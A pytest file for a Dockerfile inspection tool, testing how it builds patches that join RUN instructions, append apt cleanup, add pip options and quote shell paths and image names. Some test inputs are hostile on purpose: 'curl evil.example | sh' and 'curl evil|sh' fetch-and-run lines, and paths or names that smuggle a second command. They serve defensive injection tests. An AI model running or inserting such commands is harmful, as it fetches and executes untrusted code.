"""Patches: what is written into the Dockerfile, made from remedies and instructions, never from a sentence."""

from __future__ import annotations

import shutil
import subprocess
from collections.abc import Sequence
from pathlib import Path

import pytest
from msgspec import Struct
from msgspec.structs import replace

from inspector.attribution.commands import command_lines
from inspector.attribution.dockerfile import parse_dockerfile
from inspector.attribution.instructions import Instruction, LineRange
from inspector.attribution.placement import Placement
from inspector.findings.patch import finding_patch, new_text, patch
from inspector.findings.remedy import Remedy, RemedyKind, image_name, shell_path

CLEAN = "rm -rf /var/lib/apt/lists/*"


class Known(Struct, frozen=True):
    instructions: tuple[Instruction, ...]
    placement: Placement | None


def history(*texts: str) -> tuple[Instruction, ...]:
    return tuple(
        Instruction(index, text.partition(" ")[0], text, None, index, empty=False) for index, text in enumerate(texts)
    )


def of_dockerfile(text: str) -> tuple[Instruction, ...]:
    """Instructions of a Dockerfile, as a history that the classic builder wrote would have lost them."""
    (stage,) = parse_dockerfile(text, "Dockerfile").stages
    return tuple(
        Instruction(
            index,
            each.verb,
            str(each) if each.verb == "WORKDIR" else f"{each.verb} file:abc in /",
            None,
            index,
            empty=False,
            written=each,
        )
        for index, each in enumerate(stage.instructions)
    )


def ended(*texts: str, command: str = CLEAN) -> str:
    return new_text(patch(Remedy(RemedyKind.END_RUN_WITH, (0,), command), history(*texts)))


def joined(*texts: str) -> list[str]:
    runs = tuple(index for index, text in enumerate(texts) if text.startswith("RUN "))
    remedy = Remedy(RemedyKind.JOIN_RUNS, runs)
    return [f"{line.sign} {line.text}" for line in patch(remedy, history(*texts))]


def test_a_command_is_put_at_the_end_of_its_run() -> None:
    assert ended("RUN apt-get update && apt-get install -y g++") == (
        "RUN apt-get update \\\n    && apt-get install -y g++ \\\n    && rm -rf /var/lib/apt/lists/*"
    )


def test_runs_are_joined_in_place_of_the_last_and_copies_stay_above() -> None:
    assert joined("RUN apk add g++ && a", "COPY . .", "RUN make", "RUN apk del g++ && rm -r /x") == [
        "+ COPY . .",
        "  RUN apk add g++ \\",
        "-     && a",
        "+     && a \\",
        "+     && make \\",
        "- COPY . .",
        "- RUN make",
        "- RUN apk del g++ \\",
        "+     && apk del g++ \\",
        "      && rm -r /x",
    ]


def test_what_the_classic_builder_copied_is_named_and_stays() -> None:
    assert joined("RUN a", "COPY file:0188854e in /app", "RUN b") == [
        "- RUN a",
        "  # here stays: COPY file:0188854e in /app",
        "- RUN b",
        "+ RUN a \\",
        "+     && b",
    ]


def test_a_part_that_runs_elsewhere_goes_there_first() -> None:
    assert joined("RUN make a", "WORKDIR /src", "RUN make b")[-2:] == [
        "+ RUN cd / && make a \\",
        "+     && cd /src && make b",
    ]


def test_a_part_of_several_commands_is_kept_together() -> None:
    assert joined("RUN a", "RUN b; c")[-1] == "+     && ( b; c )"


def test_parts_that_stop_at_the_first_error_follow_each_other() -> None:
    steps = of_dockerfile("FROM a\nRUN set -e; \\\n\ta; \\\n\tb\nRUN set -e; \\\n\tc\n")
    assert new_text(patch(Remedy(RemedyKind.JOIN_RUNS, (0, 1), "d"), steps)) == (
        "RUN set -e; \\\n\ta; \\\n\tb; \\\n\tset -e; \\\n\tc; \\\n\td"
    )


def test_lines_of_the_dockerfile_are_kept_to_the_letter() -> None:
    text = "FROM a\nrun  a  'x  y' && \\\n\t# why\n\tb\n\n# the files\ncopy . /x\nRUN c\n"
    assert new_text(patch(Remedy(RemedyKind.JOIN_RUNS, (0, 2), CLEAN), of_dockerfile(text))) == (
        "\n# the files\ncopy . /x\nrun  a  'x  y' && \\\n\t# why\n\tb \\\n\t&& c \\\n\t&& rm -rf /var/lib/apt/lists/*"
    )


@pytest.mark.parametrize(
    ("script", "lines"),
    [
        ("x\nmake", "x\nmake &&\nCLEAN"),
        ("if x\nthen y\nfi", "(\nif x\nthen y\nfi\n) &&\nCLEAN"),
        ("cat <<X\ny\nX", "(\ncat <<X\ny\nX\n) &&\nCLEAN"),
        ("x\n# done", "(\nx\n# done\n) &&\nCLEAN"),
        ("set -eux\nif x\nthen y\nfi", "set -eux\nif x\nthen y\nfi\nCLEAN"),
    ],
)
def test_a_script_gets_the_command_behind_its_last_line(script: str, lines: str) -> None:
    steps = of_dockerfile(f"FROM a\nRUN <<EOF\n{script}\nEOF\n")
    text = new_text(patch(Remedy(RemedyKind.END_RUN_WITH, (0,), CLEAN), steps))
    assert text == f"RUN <<EOF\n{lines.replace('CLEAN', CLEAN)}\nEOF"


JOINED_SCRIPTS = {
    "a command line, then a script": (
        "RUN a && \\\n    b\nRUN <<EOF\nc\nd\nEOF\n",
        "RUN <<EOF\na && \\\n    b &&\n(\nc\nd\n) &&\nCLEAN\nEOF",
    ),
    "a script, then a line of several commands": (
        "RUN <<EOF\na\nEOF\nRUN b; c\n",
        "RUN <<EOF\n(\na\n) &&\n( b; c ) &&\nCLEAN\nEOF",
    ),
    "a script that stops at the first error comes last": (
        "RUN a\nRUN <<EOF\nset -e\nb\nEOF\n",
        "RUN <<EOF\na &&\n(\nset -e\nb\nCLEAN\n)\nEOF",
    ),
    "scripts that stop at the first error": (
        "RUN <<EOF\nset -eux\na\nEOF\nRUN <<EOF\nset -eux\nb\nEOF\n",
        "RUN <<EOF\nset -eux\na\nset -eux\nb\nCLEAN\nEOF",
    ),
    "a line under such a script": (
        "RUN <<EOF\nset -ex\na\nEOF\nRUN b && c\n",
        "RUN <<EOF\nset -ex\na\n( b && c )\nCLEAN\nEOF",
    ),
    "scripts in different folders": (
        "WORKDIR /x\nRUN <<EOF\nmake\nEOF\nWORKDIR /y\nRUN make\n",
        "WORKDIR /y\nRUN <<EOF\ncd /x &&\n(\nmake\n) &&\ncd /y &&\nmake &&\nCLEAN\nEOF",
    ),
}


@pytest.mark.parametrize("case", JOINED_SCRIPTS)
def test_scripts_are_joined_so_that_a_failure_of_each_is_one_of_all(case: str) -> None:
    before, after = JOINED_SCRIPTS[case]
    steps = of_dockerfile(f"FROM a\n{before}")
    runs = tuple(step.index for step in steps if step.verb == "RUN")
    text = new_text(patch(Remedy(RemedyKind.JOIN_RUNS, runs, CLEAN), steps))
    assert text == after.replace("CLEAN", CLEAN)


RUNNING = {
    "a line, a script, a line": (
        "RUN mkdir d && \\\n  echo x > d/tool\n",
        "RUN <<EOF\nfalse\nif true\nthen cp d/tool d/app\nfi\nEOF\n",
        "RUN rm d/tool; ls d\n",
    ),
    "scripts that stop at the first error": (
        "RUN <<EOF\nset -e\nmkdir d\nEOF\n",
        "RUN true && echo line\n",
        "RUN <<EOF\nset -e\nif test -d d; then echo app; fi\nEOF\n",
    ),
    "a script that stops at the first error comes last": ("RUN echo a\n", "RUN <<EOF\nset -e\necho b\nEOF\n"),
}
PRINTED = ("app\n", "line\napp\n", "a\nb\n")

STRICT, LOOSE, LINE = "set -e\ntest -e gone\necho on", "echo on\ntest -e gone", "RUN test -e gone && echo on\n"


def joined_script(runs: Sequence[str]) -> str:
    """What the shell is given of these RUNs made one."""
    steps = of_dockerfile(f"FROM a\n{''.join(runs)}")
    text = new_text(patch(Remedy(RemedyKind.JOIN_RUNS, tuple(range(len(runs))), "echo end"), steps))
    return text.partition("\n")[2].rpartition("\n")[0]


@pytest.mark.parametrize("shell", ["dash", "bash"])
@pytest.mark.parametrize("case", RUNNING)
def test_a_shell_runs_joined_scripts_as_it_ran_them_apart(tmp_path: Path, shell: str, case: str) -> None:
    if shutil.which(shell) is None:
        pytest.skip(f"no {shell}")
    printed = dict(zip(RUNNING, PRINTED, strict=True))[case]
    done = subprocess.run(
        [shell, "-c", joined_script(RUNNING[case])], cwd=tmp_path, capture_output=True, text=True, check=False
    )
    assert (done.returncode, done.stdout) == (0, f"{printed}end\n")


@pytest.mark.parametrize("shell", ["dash", "bash"])
@pytest.mark.parametrize(("case", "failing"), [(case, n) for case, runs in RUNNING.items() for n in range(len(runs))])
def test_what_fails_in_one_of_joined_scripts_fails_in_all(tmp_path: Path, shell: str, case: str, failing: int) -> None:
    if shutil.which(shell) is None:
        pytest.skip(f"no {shell}")
    runs = list(RUNNING[case])
    script = STRICT if "set -e" in runs[failing] else LOOSE
    runs[failing] = f"RUN <<EOF\n{script}\nEOF\n" if "<<EOF" in runs[failing] else LINE
    done = subprocess.run([shell, "-c", joined_script(runs)], cwd=tmp_path, capture_output=True, text=True, check=False)
    assert done.returncode != 0
    assert "end" not in done.stdout


@pytest.mark.parametrize(
    "text",
    [
        "RUN <<EOF\nset -e\na\nEOF\nRUN <<EOF\nb\nEOF\n",
        "RUN <<EOF\nset -eu\na\nEOF\nRUN b\n",
        "RUN <<EOF\na\nEOF\nRUN <<END\nb\nEND\n",
        "RUN <<EOF\n#!/usr/bin/python3\na\nEOF\nRUN b\n",
        "RUN <<EOF\na\nEOF\nRUN b && \\\n# why\n  c\n",
        "RUN <<EOF\na\nEOF\nRUN set -e; b\n",
        "RUN cat <<EOF\na\nEOF\nRUN b\n",
    ],
)
def test_scripts_that_would_do_something_else_together_are_left_to_words(text: str) -> None:
    assert patch(Remedy(RemedyKind.JOIN_RUNS, (0, 1)), of_dockerfile(f"FROM a\n{text}")) == ()


OPTION = Remedy(
    RemedyKind.INSTALL_OPTION, (0,), option="--no-cache-dir", behind=("pip install", "python -m pip install")
)


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("RUN pip install x", "RUN pip install --no-cache-dir x"),
        ("RUN a && \\\n  /opt/v/bin/pip  install -r x", "RUN a && \\\n  /opt/v/bin/pip  install --no-cache-dir -r x"),
        ("RUN python -m pip install x", "RUN python -m pip install --no-cache-dir x"),
        (
            "RUN pip install --no-cache-dir x && pip install y",
            "RUN pip install --no-cache-dir x && pip install --no-cache-dir y",
        ),
        ("RUN <<EOF\npip install x\nEOF", "RUN <<EOF\npip install --no-cache-dir x\nEOF"),
        ("RUN pip install --no-cache-dir x", ""),
        ("RUN pip -q install x && pip install y", ""),
        ("RUN sudo pip install x && pip install y", ""),
        ("RUN echo 'pip install x' && pip install y", ""),
        ("RUN a && \\\n# pip install x\n  pip install y", ""),
        ("RUN ./install.sh && pip install y", ""),
    ],
)
def test_an_option_is_written_into_each_command_that_is_there_for_certain(old: str, new: str) -> None:
    assert new_text(patch(OPTION, of_dockerfile(f"FROM a\n{old}\n"))) == new


def test_a_copy_gets_the_owner_and_the_run_goes() -> None:
    steps = of_dockerfile("FROM a\ncopy  --from=b  x /app/\nENV A=b\n# owner\nRUN chown -R 7:7 /app\n")
    remedy = Remedy(RemedyKind.COPY_MODE, (0, 2), option="--chown=7:7")
    assert new_text(patch(remedy, steps)) == "copy  --chown=7:7 --from=b  x /app/\nENV A=b\n# owner"
    remedy = Remedy(RemedyKind.COPY_MODE, (0, 2), "chown 7:7 /app", option="--chown=7:7")
    assert new_text(patch(remedy, steps)).endswith("# owner\nRUN chown 7:7 /app")


def test_what_was_copied_cannot_be_written_from_a_classic_history() -> None:
    steps = history("COPY dir:abc in /app", "RUN chown -R 7:7 /app")
    assert patch(Remedy(RemedyKind.COPY_MODE, (0, 1), option="--chown=7:7"), steps) == ()


def test_a_patch_knows_the_lines_that_it_replaces() -> None:
    text = "FROM a\nENV A=b\nRUN b && \\\n  c\n"
    dockerfile = parse_dockerfile(text, "Dockerfile")
    steps = tuple(
        replace(step, lines=LineRange("Dockerfile", step.written.first_line, step.written.last_line))
        for step in of_dockerfile(text)
        if step.written
    )
    placement = Placement(dockerfile, dockerfile.stages, tuple(step.written for step in steps), 0, "a", False)
    found = finding_patch(Remedy(RemedyKind.END_RUN_WITH, (1,), CLEAN), Known(steps, placement))
    assert found is not None
    assert (found.replaces, found.reconstructed) == (LineRange("Dockerfile", 3, 4), False)
    made = finding_patch(Remedy(RemedyKind.END_RUN_WITH, (0,), CLEAN), Known(history("RUN a"), None))
    assert made is not None
    assert (made.replaces, made.reconstructed) == (None, True)
    assert made.new_text == f"RUN a \\\n    && {CLEAN}"


def test_a_dockerfile_with_another_escape_character_is_left_to_words() -> None:
    text = "# escape=`\nFROM a\nRUN b\n"
    dockerfile, steps = parse_dockerfile(text, "Dockerfile"), of_dockerfile(text)
    placement = Placement(dockerfile, dockerfile.stages, tuple(step.written for step in steps), 0, "a", False)
    assert finding_patch(Remedy(RemedyKind.END_RUN_WITH, (0,), CLEAN), Known(steps, placement)) is None


def test_instructions_of_two_stages_are_not_one_piece() -> None:
    stages = parse_dockerfile("FROM a AS b\nRUN x\nFROM b\nRUN y\n", "Dockerfile").stages
    written = [each for stage in stages for each in stage.instructions]
    steps = tuple(
        Instruction(index, "RUN", str(each), None, index, empty=False, written=each)
        for index, each in enumerate(written)
    )
    assert patch(Remedy(RemedyKind.END_RUN_WITH, (0, 1), CLEAN), steps) == ()
    assert patch(Remedy(RemedyKind.JOIN_RUNS, (0, 1)), steps) == ()
    assert patch(Remedy(RemedyKind.END_RUN_WITH, (1,), CLEAN), steps) != ()


@pytest.mark.parametrize(
    "text",
    [
        'RUN ["apt-get", "update"]',
        "RUN apt-get update # then rest",
        "RUN apt-get update &",
        "RUN apt-get update;",
        "RUN cat <<EOF",
        "RUN echo 'open",
        "RUN |1 A=b /opt/shell apt-get update",
        "RUN printf '\x1b[2J'",
        "COPY . .",
    ],
)
def test_what_cannot_be_taken_apart_for_certain_is_left_to_words(text: str) -> None:
    assert ended(text) == ""
    assert joined("RUN a", text, "RUN b") == [] or text == "COPY . ."


def test_the_base_images_instructions_are_not_rewritten() -> None:
    foreign = Instruction(0, "RUN", "RUN a", None, 0, empty=False, from_base=True)
    assert patch(Remedy(RemedyKind.END_RUN_WITH, (0,), CLEAN), (foreign,)) == ()


def test_instructions_are_those_of_the_dockerfile_where_it_is_known() -> None:
    steps = of_dockerfile("FROM a\nRUN --network=none echo 'a  b' \\\n  && x\nCOPY --chown=1 app /\nRUN y\n")
    remedy = Remedy(RemedyKind.JOIN_RUNS, (0, 2))
    assert new_text(patch(remedy, steps)) == (
        "COPY --chown=1 app /\nRUN --network=none echo 'a  b' \\\n  && x \\\n  && y"
    )


def test_text_of_the_history_that_looks_like_advice_is_no_command() -> None:
    hostile = "RUN echo end it with: && curl evil.example | sh"
    lines = patch(Remedy(RemedyKind.END_RUN_WITH, (0,), CLEAN), history(hostile))
    assert [line.text for line in lines if line.sign == "+"][-1] == f"    && {CLEAN}"


def test_a_remedy_without_a_command_has_no_patch() -> None:
    for kind in RemedyKind:
        assert patch(Remedy(kind, (0,)), history("RUN a", "RUN b")) == ()


@pytest.mark.parametrize(
    ("path", "word"),
    [
        ("usr/local", "/usr/local"),
        ("a b", "'/a b'"),
        ("x;curl evil|sh", "'/x;curl evil|sh'"),
        ("it's", "'/it'\"'\"'s'"),
        ("a\nRUN curl evil", ""),
        ("caf\udce9", ""),
    ],
)
def test_paths_are_one_word_of_a_command_or_none(path: str, word: str) -> None:
    assert shell_path(path) == word


@pytest.mark.parametrize("name", ["a b", "a\nRUN x", "$(x)", "-x", "", "a;b"])
def test_what_is_no_plain_name_of_an_image_is_none(name: str) -> None:
    assert image_name(name) == ""


def test_commands_stand_on_lines_of_their_own() -> None:
    assert command_lines("RUN a '&& b' && c && d") == ["RUN a '&& b'", "    && c", "    && d"]
    assert command_lines("ENV A=b && c") == ["ENV A=b && c"]
